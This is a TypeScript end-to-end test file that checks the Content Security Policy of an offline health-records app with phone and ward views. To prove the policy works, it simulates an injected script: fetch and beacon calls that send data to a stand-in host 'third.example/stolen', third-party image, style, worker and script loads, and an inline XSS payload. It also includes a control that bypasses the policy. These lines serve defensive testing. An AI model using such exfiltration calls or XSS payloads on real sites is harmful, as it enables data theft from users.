import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { at, editField, login, record, register, until, visit, waitForOfflineReady } from "./support/app.ts";
import { DESKTOP, PHONE } from "./support/browser.ts";
import { startTrapProxy, type TrapProxy } from "./support/trap-proxy.ts";
import { createWorld, PASSWORD, type Seat, type World } from "./support/world.ts";

let world: World;
let trap: TrapProxy;
let phone: Seat;
let ward: Seat;
const origins = new Set<string>();

const remember = (page: Page): void => {
  page.on("request", (request) => origins.add(new URL(request.url()).origin));
  page.on("websocket", (socket) => origins.add(new URL(socket.url().replace(/^ws/, "http")).origin));
};

beforeAll(async () => {
  world = await createWorld(join(import.meta.dirname, "../../client/dist"));
  trap = await startTrapProxy();
  phone = await world.seat("phone", PHONE, trap.flags);
  ward = await world.seat("ward", DESKTOP, trap.flags);
  for (const seat of [phone, ward]) remember(seat.device.page);
});
afterAll(async () => {
  await (world as World | undefined)?.[Symbol.asyncDispose]();
  await (trap as TrapProxy | undefined)?.close();
});

/** What browsers have reported as blocked, by directive, since the relay started. */
const violations = async (): Promise<Record<string, number>> => {
  const text = await (await fetch(`${world.relay.url}/metrics`)).text();
  return Object.fromEntries(
    [...text.matchAll(/^relay_csp_violations_total\{directive="([^"]+)"\} (\d+)$/gm)].map((found) => [
      found[1],
      Number(found[2]),
    ]),
  );
};

test("[HD2] a day's work asks nobody but the relay, and the policy blocks nothing of it", async () => {
  const { page } = phone.device;
  await login(page, phone.origin, "asha", PASSWORD);
  await waitForOfflineReady(page);
  const patient = await register(page, phone.origin, { name: "Sita Devi", sex: "female", age: 44 });
  await record(page, phone.origin, patient, { heartRate: "88", spo2: "97" });
  await record(page, phone.origin, patient, { heartRate: "92", spo2: "96" });
  await editField(page, phone.origin, patient, "village", "Wadgaon");
  for (const [path, ready] of [
    ["/f", "today-record"],
    ["/f/patients", "patient-search"],
    ["/f/sync", "send-now"],
    ["/f/more", "sign-out"],
    ["/s", undefined],
    ["/s/diagnostics", "diagnostics"],
    ["/welcome", "welcome-next"],
  ] as const) {
    await visit(page, `${phone.origin}${path}`);
    await (ready === undefined ? page.locator("h1") : at(page, ready)).first().waitFor({ timeout: 20_000 });
  }
  const desk = ward.device.page;
  await login(desk, ward.origin, "nurse", PASSWORD);
  await visit(desk, `${ward.origin}/w/list`);
  await until("the ward has the patient", async () =>
    (await at(desk, "ward-row").count()) > 0 ? true : undefined,
  );
  await visit(desk, `${ward.origin}/w/p/${patient}`);
  await desk.locator("canvas").first().waitFor({ timeout: 20_000 });

  expect([...origins].filter((origin) => origin !== phone.origin && origin !== ward.origin)).toEqual([]);
  expect(trap.asked).toEqual([]);
  expect(await violations()).toEqual({});
  expect(await page.evaluate(() => globalThis.crossOriginIsolated)).toBe(true);
});

test("[HD2] what an injected script would try is blocked and counted, and nothing leaves", async () => {
  const { page } = phone.device;
  const tried = await page.evaluate(async () => {
    const outcome = async (work: () => unknown): Promise<string> => {
      try {
        await work();
        return "done";
      } catch (error) {
        return error instanceof Error ? error.name : String(error);
      }
    };
    const load = (tag: "img" | "iframe" | "link", set: (element: HTMLElement) => void) =>
      new Promise((resolve, reject) => {
        const element = document.createElement(tag);
        element.addEventListener("load", resolve);
        element.addEventListener("error", () => reject(new Error("blocked")));
        set(element);
        document.body.append(element);
        setTimeout(() => reject(new Error("blocked")), 500);
      });
    const inline = document.createElement("div");
    return {
      fetch: await outcome(() => fetch("http://third.example/stolen")),
      beacon: navigator.sendBeacon("http://third.example/stolen", "x"),
      image: await outcome(() => load("img", (e) => e.setAttribute("src", "http://third.example/pixel.png"))),
      style: await outcome(() =>
        load("link", (e) => {
          e.setAttribute("rel", "stylesheet");
          e.setAttribute("href", "http://third.example/style.css");
        }),
      ),
      markup: await outcome(() => {
        inline.innerHTML = "<img src=x onerror=alert(1)>";
      }),
      handler: await outcome(() => {
        const button = document.createElement("button");
        button.setAttribute("onclick", "globalThis.wasRun = true");
        button.click();
        if (!(globalThis as { wasRun?: boolean }).wasRun) throw new Error("blocked");
      }),
      worker: await outcome(() => new Worker("http://third.example/worker.js")),
      script: await outcome(() => {
        const script = document.createElement("script");
        script.src = "http://third.example/script.js";
      }),
    };
  });
  expect(tried).toEqual({
    fetch: "TypeError",
    beacon: expect.any(Boolean),
    image: "Error",
    style: "Error",
    markup: "TypeError",
    handler: expect.stringMatching(/Error$/),
    worker: "TypeError",
    script: "TypeError",
  });
  const counted = await until("the reports have come", async () => {
    const found = await violations();
    return ["connect-src", "img-src", "style-src-elem", "require-trusted-types-for"].every(
      (name) => name in found,
    )
      ? found
      : undefined;
  });
  expect(counted["require-trusted-types-for"]).toBeGreaterThan(0);
  expect(trap.asked).toEqual([]);
});

test("[HD2] negative control: with the policy set aside the same request reaches the trap", async () => {
  const { page, context } = phone.device;
  const session = await context.newCDPSession(page);
  await session.send("Page.setBypassCSP", { enabled: true });
  await page.reload();
  await page.evaluate(() => fetch("http://third.example/stolen", { mode: "no-cors" }).catch(() => undefined));
  expect(trap.asked).toContain("third.example");
});
